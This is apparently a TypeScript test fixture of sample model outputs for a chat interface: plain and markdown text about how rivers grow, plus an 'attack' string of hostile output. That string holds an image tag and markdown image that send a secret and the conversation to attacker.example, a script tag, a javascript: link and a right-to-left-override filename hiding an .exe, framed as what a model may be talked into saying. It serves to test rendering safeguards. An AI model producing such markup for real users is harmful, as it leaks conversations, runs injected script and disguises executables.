/** What the invented models say. Short enough to watch, long enough to see it stream. */
export const rivers =
  'A river starts small: rain on a hillside, or snow that melts. The water finds the lowest way, meets other streams, and cuts its bed deeper every year.\n\n' +
  'Where the land is flat it slows down and wanders. The outside of every bend is worn away and the inside filled with sand, so the bends move, and sometimes the river cuts one off and leaves a lake behind.\n\n' +
  'At the end it gives back what it carried. That is what a delta is made of.';

export const riversMarkdown = `## How a river grows

A river starts **small**: rain on a hillside, or snow that melts. Then:

1. The water finds the *lowest way*.
2. It meets other streams.
3. It cuts its bed deeper every year.

| part | what happens |
| --- | --- |
| upper course | it cuts |
| middle course | it wanders |
| lower course | it gives back |

\`\`\`js
const flow = streams.reduce((sum, stream) => sum + stream.flow, 0);
\`\`\`

> A delta is made of what the river carried.
`;

export const short = 'Rivers find the sea. They take their time, and they do not ask the way.';

/** What a model may be talked into saying. */
export const attack = `<img src="https://attacker.example/pixel.png?secret=42" onerror="alert(1)">
<script>document.title = 'taken'</script>
![a picture](https://attacker.example/picture.png?conversation=everything)
[a link](javascript:alert(1)) and [another](https://example.com)
The file is called invoice\u202egpj.exe`;
